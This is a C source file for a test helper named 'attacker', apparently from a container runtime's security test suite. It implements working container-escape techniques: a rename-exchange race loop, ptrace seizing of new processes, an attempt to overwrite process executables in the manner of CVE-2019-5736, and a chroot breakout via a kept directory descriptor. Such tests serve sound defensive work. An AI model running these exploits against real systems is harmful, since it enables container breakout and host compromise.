/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker: what a hostile process does and busybox cannot. Each command says "ready", works in a
 * tight loop until SIGTERM and then prints what it did, so that a test can tell that the attack was
 * made. Compiled static at test time; runs on the host and, as /bin/attacker, inside containers.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t over;

static void on_term(int sig)
{
    (void)sig;
    over = 1;
}

static void die(const char *what)
{
    fprintf(stderr, "attacker: %s: %s\n", what, strerror(errno));
    exit(98);
}

static void say(const char *line)
{
    printf("%s\n", line);
    fflush(stdout);
}

/* swap A B…: exchanges the two of each pair again and again. */
static int cmd_swap(char **argv)
{
    long swaps = 0;

    say("ready");
    while (!over)
        for (int i = 0; argv[i] && argv[i + 1]; i += 2) {
            if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1], RENAME_EXCHANGE) < 0)
                die(argv[i]);
            swaps++;
        }
    printf("swaps %ld\n", swaps);
    return 0;
}

/* The next process of /proc that is not this one; NULL at the end. */
static const char *next_process(DIR *proc)
{
    struct dirent *e;

    while ((e = readdir(proc)))
        if (isdigit((unsigned char)e->d_name[0]) && atoi(e->d_name) != getpid())
            return e->d_name;
    return NULL;
}

/* One that has ended refuses too, which shows nothing. */
static int has_ended(pid_t pid)
{
    char path[64], text[256] = {0}, *state;
    int fd;

    snprintf(path, sizeof(path), "/proc/%d/stat", pid);
    fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 1;
    state = read(fd, text, sizeof(text) - 1) > 0 ? strrchr(text, ')') : NULL;
    close(fd);
    return !state || strchr("ZX", state[2]) != NULL;
}

static void let_go(pid_t pid)
{
    int status;

    ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
    if (waitpid(pid, &status, __WALL) == pid && WIFSTOPPED(status))
        ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* seize: traces each process that appears. One that is caught before it has executed the program of
 * the container is the runtime's helper. */
static int cmd_seize(char **argv)
{
    static char seen[1 << 16];
    long programs = 0, refused = 0, helpers = 0;
    struct stat own, other;
    char path[64];

    (void)argv;
    if (stat("/bin/busybox", &own) < 0)
        die("/bin/busybox");
    say("ready");
    while (!over) {
        DIR *proc = opendir("/proc");
        const char *name;

        while ((name = next_process(proc))) {
            pid_t pid = atoi(name);

            if (seen[pid & 0xffff])
                continue;
            if (ptrace(PTRACE_SEIZE, pid, NULL, NULL) < 0) {
                refused += errno == EPERM && !has_ended(pid);
                continue;
            }
            seen[pid & 0xffff] = 1;
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            if (stat(path, &other) == 0) {
                int program = other.st_ino == own.st_ino && other.st_dev == own.st_dev;

                programs += program;
                helpers += !program;
            }
            let_go(pid);
            printf("programs %ld helpers %ld refused %ld\n", programs, helpers, refused);
            fflush(stdout);
        }
        closedir(proc);
    }
    printf("end: programs %ld helpers %ld refused %ld\n", programs, helpers, refused);
    return 0;
}

/* Opens again for writing what is held by the descriptor, as long as its owner may be busy. */
static int overwrite(int fd)
{
    char path[64];

    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    for (int i = 0; i < 200; i++) {
        int writable = open(path, O_WRONLY);

        if (writable >= 0) {
            int done = write(writable, "x", 1) == 1;

            close(writable);
            if (done)
                return 1;
        }
    }
    return 0;
}

/* stealexe: opens the executable of each process that appears, keeps it, and tries to write to it
 * through its own descriptor (CVE-2019-5736). */
static int cmd_stealexe(char **argv)
{
    long met = 0, opened = 0;
    struct stat own, other;
    char path[64];

    (void)argv;
    if (stat("/bin/busybox", &own) < 0)
        die("/bin/busybox");
    say("ready");
    while (!over) {
        DIR *proc = opendir("/proc");
        const char *name;

        while ((name = next_process(proc))) {
            snprintf(path, sizeof(path), "/proc/%s/exe", name);
            int fd = open(path, O_RDONLY | O_CLOEXEC);

            met++;
            if (fd < 0)
                continue;
            if (fstat(fd, &other) == 0 &&
                (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) {
                if (opened++ == 0)
                    say("opened one");
                if (overwrite(fd))
                    say("wrote");
            }
            close(fd);
        }
        closedir(proc);
    }
    printf("met %ld opened %ld\n", met, opened);
    return 0;
}

/* chroot DIR FILE: leaves a root that chroot(2) made by a descriptor of what is above, and looks
 * for a file of the host. */
static int cmd_chroot(char **argv)
{
    int top = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

    if (top < 0 || chroot(argv[0]) < 0 || fchdir(top) < 0)
        die("chroot");
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            die("..");
    if (chroot(".") < 0)
        die("chroot .");
    say(access(argv[1], F_OK) == 0 ? "found" : "not found");
    return 0;
}

static const struct {
    const char *name;
    int args;
    int (*run)(char **argv);
} commands[] = {
    {"swap", 2, cmd_swap},
    {"seize", 0, cmd_seize},
    {"stealexe", 0, cmd_stealexe},
    {"chroot", 2, cmd_chroot},
};

int main(int argc, char **argv)
{
    struct sigaction term = {.sa_handler = on_term};

    sigaction(SIGTERM, &term, NULL);
    for (size_t i = 0; argc > 1 && i < sizeof(commands) / sizeof(commands[0]); i++)
        if (strcmp(argv[1], commands[i].name) == 0 && argc - 2 >= commands[i].args)
            return commands[i].run(argv + 2);
    fprintf(stderr, "usage: attacker COMMAND ARG...\n");
    return 98;
}
